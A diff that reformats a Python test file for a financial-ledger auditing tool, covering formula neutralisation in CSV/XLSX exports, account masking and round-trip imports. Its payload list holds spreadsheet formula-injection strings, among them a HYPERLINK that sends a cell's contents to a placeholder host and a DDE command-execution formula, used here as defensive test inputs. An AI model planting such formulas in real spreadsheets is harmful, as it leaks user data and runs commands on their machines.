@@ -19,8 +19,15 @@ from qiake_auditor.masking import mask_account
 from qiake_auditor.workspace import Workspace
 
 GOLDEN = Path(__file__).parent / "data" / "golden"
-PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "=cmd|' /C calc'!A0",
-            "+1+1", "-2+3", "@SUM(1,1)", "'quoted"]
+PAYLOADS = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "'quoted",
+]
 
 
 def _ledger(tmp_path: Path) -> pd.DataFrame:
@@ -44,7 +51,7 @@ def test_csv_export_neutralises_formulas_and_reads_back_exactly(tmp_path: Path) 
     for value in cells["description"].tolist() + cells["counterparty"].tolist():
         assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
     back = read_statements(out)[0].rows
-    assert back["description"].tolist()[:len(PAYLOADS)] == PAYLOADS
+    assert back["description"].tolist()[: len(PAYLOADS)] == PAYLOADS
     assert back["amount"].tolist() == rows["amount"].tolist()
 
 
@@ -55,7 +62,7 @@ def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
         sheet = book.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet and "<f " not in sheet
     back = read_statements(out)[0].rows
-    assert back["description"].tolist()[:len(PAYLOADS)] == [p.strip() for p in PAYLOADS]
+    assert back["description"].tolist()[: len(PAYLOADS)] == [p.strip() for p in PAYLOADS]
 
 
 def test_accounts_are_masked_unless_asked(tmp_path: Path) -> None:
@@ -68,10 +75,16 @@ def test_accounts_are_masked_unless_asked(tmp_path: Path) -> None:
     assert "DE89370400440532013000" in full.read_text(encoding="utf-8-sig")
 
 
-@pytest.mark.parametrize("text, masked", [
-    ("DE89370400440532013000", "****3000"), ("12345678", "****5678"),
-    ("招商银行(1111)", "招商银行(1111)"), ("零钱", "零钱"), ("", ""),
-])
+@pytest.mark.parametrize(
+    "text, masked",
+    [
+        ("DE89370400440532013000", "****3000"),
+        ("12345678", "****5678"),
+        ("招商银行(1111)", "招商银行(1111)"),
+        ("零钱", "零钱"),
+        ("", ""),
+    ],
+)
 def test_mask_account(text: str, masked: str) -> None:
     assert mask_account(text) == masked
 
@@ -90,11 +103,16 @@ def test_export_reads_back_as_its_own_format_adding_nothing(tmp_path: Path, suff
         again = ws.ledger()
     assert reports[0].added == len(rows)
     assert sorted(again["dedup_key"]) == sorted(rows["dedup_key"])
-    same = [c for c in LEDGER_COLUMNS if c not in ("source", "source_sha256", "source_row",
-                                                   "method")]
+    same = [
+        c for c in LEDGER_COLUMNS if c not in ("source", "source_sha256", "source_row", "method")
+    ]
     key = ["format", "time", "amount", "description", "txn_id"]
-    assert (again[same].sort_values(key).reset_index(drop=True)
-            .equals(rows[same].sort_values(key).reset_index(drop=True)))
+    assert (
+        again[same]
+        .sort_values(key)
+        .reset_index(drop=True)
+        .equals(rows[same].sort_values(key).reset_index(drop=True))
+    )
 
 
 def test_xlsx_scratch_files_stay_beside_the_target_and_go(tmp_path: Path, monkeypatch) -> None:
